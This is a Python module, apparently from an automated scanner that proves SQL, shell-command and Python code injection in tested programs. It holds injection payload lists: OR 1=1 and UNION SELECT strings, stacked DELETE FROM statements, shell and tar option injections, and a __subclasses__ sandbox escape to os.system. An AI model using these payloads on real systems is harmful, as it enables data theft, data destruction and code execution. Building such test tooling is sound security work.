"""SQL, shell commands and code: text that becomes part of a language."""

import os
import re

import prove_world
from prove_database import VAULT
from prove_families import Effect, Family, Marked, Payload, is_by_design

_SQL_NAMES = {'sql', 'statement', 'stmt', 'sql_query', 'query_sql', 'raw_sql'}
_COMMAND_NAMES = {'command', 'cmd', 'cmdline', 'command_line', 'shell_command', 'commands'}
_CODE_NAMES = {'code', 'source', 'source_code', 'script', 'program', 'python_code'}
# Of a command: what ends the quotes around a word, or works inside of them. (A substitution has signs of its own.)
_ESCAPES = {"in '": ("'",), 'in "': ('"', '$(echo', '`')}
_WRITE = "open('pwned','w').write(str(6*7))"
_BROKEN = re.compile(r'syntax error|unrecognized token|incomplete input|one statement at a time')


class Sql(Family):
    database = True
    probes = True
    padded = True
    preferred = frozenset({'text', 'id', 'filename'})

    def payloads(self, _site):
        columns = ', '.join(['code'] * max(1, min(self.hunt.columns, 30)))
        for text in (
            "' OR '1'='1",
            "' OR 1=1 --",
            '1 OR 1=1',
            '" OR "1"="1',
            "') OR ('1'='1",
            "%' OR '1'='1",
            '" OR 1=1 --',
            "') OR 1=1 --",
            '1) OR (1=1',
            "\\' OR 1=1 --",
            # Where blanks are taken away or replaced.
            "'OR/**/1=1--",
            "')OR/**/1=1--",
            '"OR/**/1=1--',
            '1/**/OR/**/1=1',
        ):
            yield Payload(text)
        for head in ("'", '', "')", '"', '0', "%'", 'harmless'):
            yield Payload(f"{head} UNION SELECT {columns} FROM {VAULT} --")
        for head in ("'; ", '1; ', "'); ", '"; '):
            yield Payload(f'{head}DELETE FROM {self.table()} --')
        for text in (
            f"'||(SELECT code FROM {VAULT})||'",
            f'(SELECT code FROM {VAULT})',
            f"', (SELECT code FROM {VAULT})) --",
        ):
            yield Payload(text)
        test = f"(SELECT state FROM {VAULT})='open'"
        for text in (
            f"' OR {test} --",
            f"' OR {test} OR '1'='2",
            f'0 OR {test}',
            f'" OR {test} --',
            f"') OR {test} --",
            f"{self.column()} AND {test}",
            f'CASE WHEN {test} THEN 1 ELSE abs(-9223372036854775808) END',
        ):
            yield Payload(text, twin=True)

    def arrivals(self, seen, word):
        return {'statement'} if word in str(seen.told.get('sql')) or seen.how == 'raised' else set()

    def table(self):
        return next(iter(self.hunt.database.schema), VAULT)

    def column(self):
        return next((columns[0] for columns in self.hunt.database.schema.values() if columns), 'id')

    def replay(self, text):
        return Payload(text, twin='state FROM' in text)

    def controls(self, _site, payload):
        plain = [None, Payload('harmless'), Payload('99999')]
        return [
            (
                one and one.of(one.text)
                if not payload.more.get('twin')
                else Payload(one.text if one else 'harmless', twin=True)
            )
            for one in plain
        ]

    def kind_of_controls(self, payload):
        return 'twin' if payload.more.get('twin') else 'any'

    def learn(self, control):
        self.before = control.changes() or {}
        self.read = self.secrets_in(control)
        self.was_broken = self.is_broken(control)
        self.never_worked = bool(re.match(r'(?:Operational|Programming|Database)Error', control.text('error')))

    def secrets_in(self, seen):
        said = seen.said
        return {name for name in self.hunt.database.secrets if name in said}

    def is_broken(self, seen):
        rows = seen.told.get('sql')
        errors = (
            [row[1] for row in rows if isinstance(row, list) and len(row) == 2 and row[1]]
            if isinstance(rows, list)
            else []
        )
        return next((one for one in errors if isinstance(one, str) and _BROKEN.search(one)), None)

    def judge(self, site, payload, seen):
        found = self.harm(seen)
        if found is not None and payload is not None and is_by_design(self.hunt, site, _SQL_NAMES):
            return Effect('reached', f'the parameter is a whole statement: {found.harm}')
        if found is not None:
            return found
        broken = self.is_broken(seen)
        if broken and not self.was_broken and not seen.told.get('type') == 'ProgrammingError':
            return Effect('reached', f'it changes the structure of the statement: {broken[:120]}')
        return None

    def may_be(self, text):
        return re.search(r'\W', text) is not None

    def harm(self, seen):
        leaked = self.secrets_in(seen) - self.read
        if leaked and self.never_worked:
            return Effect('reached', 'rows are returned; no harmless value was found that works')
        if leaked:
            places = sorted({self.hunt.database.secrets[one] for one in leaked})
            return Effect(
                'proven', f'rows were returned that no harmless value reaches ({", ".join(places[:4])})', sql=True
            )
        changes = seen.changes()
        if changes is None:
            return None
        worse = {what: count for what, count in changes.items() if count > self.before.get(what, 0)}
        serious = [what for what in worse if 'rows added' not in what or worse[what] > self.before.get(what, 0) + 1]
        if serious:
            return Effect(
                'proven', f'the database was changed as no harmless value changes it ({"; ".join(sorted(serious)[:3])})'
            )
        return None

    def judge_twins(self, shut, opened):
        one, other = self.signature(shut), self.signature(opened)
        if one == other or shut.stopped or opened.stopped:
            return None
        return Effect(
            'proven', f'the answer tells what another table ({VAULT}) holds: {self.word(shut)}, or {self.word(opened)}'
        )

    def signature(self, seen):
        said = seen.said
        for one in self.hunt.database.secrets:
            said = said.replace(one, '')
        return (seen.how, seen.text('error'), bool(seen.told.get('accepts')), re.sub(r'0x[0-9a-f]+', '', said))

    def word(self, seen):
        if seen.how == 'raised':
            return 'it raises ' + seen.text('error').partition(':')[0]
        return 'it returns ' + ('something' if seen.told.get('accepts') else 'nothing')


class Command(Marked):
    moved = True
    probes = True
    padded = True
    preferred = frozenset({'text', 'filename', 'host', 'url', 'directory'})
    harmless_canary = ''  # stands in every command
    # Noted only, even where they are there: what they would do needs a network, or takes long before it does nothing.
    noted = (
        'convert',
        'dig',
        'docker',
        'ffmpeg',
        'host',
        'identify',
        'mail',
        'nmap',
        'nslookup',
        'pdftotext',
        'ping',
        'sendmail',
        'traceroute',
        'whois',
    )
    tools = ('curl', 'git', 'openssl', 'rsync', 'ssh', 'wget', 'zip')

    def prepare(self):
        """Tools that the cage lacks exist, and note what they are asked."""
        bins = os.path.join(self.hunt.world.root, 'bin')
        os.makedirs(bins, exist_ok=True)
        self.hunt.world.literals(self.hunt.survey, self.moved)
        if 'git' in self.hunt.survey.get('words', []):
            self.repositories()
        self.log = os.path.join(self.hunt.world.top, 'asked')
        named = [one.split()[0] for one in self.hunt.survey.get('commands', []) if one.split()]
        for name in [*self.noted, *self.tools, *named]:
            is_there = any(os.path.exists(f'{folder}/{name}') for folder in ('/usr/local/bin', '/usr/bin', '/bin'))
            path = os.path.join(bins, name)
            if (name in self.noted or not is_there) and re.fullmatch(r'[\w.\-]+', name):
                self.hunt.world.write(
                    path, f'#!/bin/sh\nfor one in "$0" "$@"; do printf "%s\\n" "$one"; done >> {self.log}\n'
                )
                os.chmod(path, 0o755)

    def repositories(self):
        """Where the program's folders are empty repositories, git gets as far as to read its options."""
        world = self.hunt.world
        for folder in [world.app, *world.bases[:4]]:
            for name in ('objects', 'refs'):
                os.makedirs(os.path.join(folder, '.git', name), exist_ok=True)
            world.write(os.path.join(folder, '.git', 'HEAD'), 'ref: refs/heads/main\n')

    def payloads(self, site):
        run = 'echo $((6*7))>pwned'
        for text in (
            '--output=pwned',
            '-opwned',
            '--output-document=pwned',
            '--checkpoint-action=exec=echo $((6*7))>pwned',
        ):
            if 'arguments' in (site.reach or ()):
                yield Payload(self.hunt.disguise(text), option=True, shrinks=False)
        if site.reach and 'shell' not in site.reach and 'arguments' in site.reach:
            return
        # What gets out of the quotes that a harmless word was seen in comes first.
        signs = next((signs for name, signs in _ESCAPES.items() if name in (site.reach or ())), ())
        texts = self.commands(run)
        for text in sorted(texts, key=lambda one: bool(signs) and not any(sign in one for sign in signs)):
            yield Payload(self.hunt.disguise(text))

    @staticmethod
    def commands(run):
        return (
            f';{run}',
            f'$({run})',
            f'`{run}`',
            f'|{run}',
            f'&&{run}',
            f'\n{run}',
            f'||{run}',
            f'&{run}',
            run,
            f"';{run};'",
            f'";{run};"',
            f"' ;{run} #",
            f'" ;{run} #',
            f');{run}',
            f'x;{run} #',
            f';{run};',
            ';echo${IFS}$((6*7))>pwned',
            f'notes.txt;{run}',
            f'harmless;{run}',
            f'7;{run}',
            f'public.example;{run}',
        )

    def replay(self, text):
        return Payload(text, option=text.startswith('-'))

    def arrives(self, seen):
        rows = seen.told.get('arrivals')
        return isinstance(rows, list) and ('shell' in rows or 'arguments' in rows)

    def may_be(self, text):
        """Every sign of the command is needed; what stands around it is what may go."""
        core = self.hunt.disguise('$((6*7))>pwned')
        return text.startswith('-') or f'echo {core}' in text or f'echo${{IFS}}{core}' in text

    def controls(self, site, _payload):
        return [None, Payload('harmless;' if site.role != 'directory' else 'harmless')]

    def look(self, seen):
        Marked.look(self, seen)
        seen.options = prove_world.read(self.log).split('\n')
        prove_world.remove(self.log)

    def judge(self, site, payload, seen):
        if self.is_marked(seen):
            if payload is not None and is_by_design(self.hunt, site, _COMMAND_NAMES):
                return Effect('reached', 'the parameter is a whole command, and is run as one')
            return self.effect('a shell ran what the value said')
        if payload is None or not payload.more.get('option'):
            return None
        if self.hunt.marker in seen.markers:
            return Effect('proven', 'the value was taken for an option of the tool, which wrote a file "pwned"')
        if payload.text in seen.options and '--' not in seen.options[: seen.options.index(payload.text)]:
            return Effect('reached', f'the value was taken for an option of {os.path.basename(seen.options[0])}')
        return None


class Code(Marked):
    moved = True
    probes = True
    padded = True
    preferred = frozenset({'text'})

    def payloads(self, site):
        write = _WRITE
        escape = (
            "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='_wrap_close'][0]"
            ".__init__.__globals__['system']('echo $((6*7))>pwned')"
        )
        plain = (
            write,
            "__import__('os').system('echo $((6*7))>pwned')",
            f"'+{write}+'",
            f'"+{write}+"',
            f'\n{write}\n',
            f'1;{write}',
            f"');{write}#",
            f'");{write}#',
            f"'\n{write}#",
            f'"\n{write}#',
            f'0)or({write}',
            f'{write}#',
            '{' + write.replace("'", '"') + '}',
            f"'or {write} or'",
            f'"or {write} or"',
            f'0 or {write}',
            f'{write} or 7',
            f'7+{write}',
            escape,
            f"'+str({escape})+'",
            f':{write}',
            f'lambda:{write}',
            f"'+{escape}+'",
            f'"+{escape}+"',
            f'({escape})',
        )
        for text in plain:
            yield Payload(self.hunt.disguise(text))

    def may_be(self, text):
        """Every sign of what writes the file is needed, in either kind of quotes."""
        write, command = self.hunt.disguise(_WRITE), self.hunt.disguise('echo $((6*7))>pwned')
        return write in text or write.replace("'", '"') in text or ('system' in text and command in text)

    def judge(self, site, payload, seen):
        if not self.is_marked(seen):
            return None
        if payload is not None and is_by_design(self.hunt, site, _CODE_NAMES):
            return Effect('reached', 'the parameter is a whole program, and is run as one')
        return self.effect('the value was run as code')
